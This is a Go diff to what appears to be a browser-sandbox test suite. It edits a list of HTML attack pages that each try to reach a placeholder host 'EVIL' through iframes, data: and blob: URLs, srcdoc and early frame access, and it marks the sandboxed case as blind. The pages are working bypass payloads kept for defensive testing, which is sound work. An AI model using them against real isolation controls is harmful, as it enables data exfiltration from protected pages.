@@ -72,7 +72,7 @@ var attacks = []attack{
 	{name: "javascript-url", page: `<iframe src="javascript:fetch('EVIL/',{mode:'no-cors'})"></iframe>`},
 	{name: "data-frame", page: `<iframe src="data:text/html,<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
 	{name: "srcdoc", page: `<iframe srcdoc="<img src='EVIL/'>"></iframe>`},
-	{name: "sandboxed", page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
+	{name: "sandboxed", page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`, blind: true},
 	{name: "blob-frame", page: `<script>f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}));document.documentElement.append(f)</script>`},
 	{name: "blob-page", page: `<script>location=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}))</script>`},
 	{name: "early-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);f.contentWindow.fetch("EVIL/",{mode:"no-cors"})</script>`},
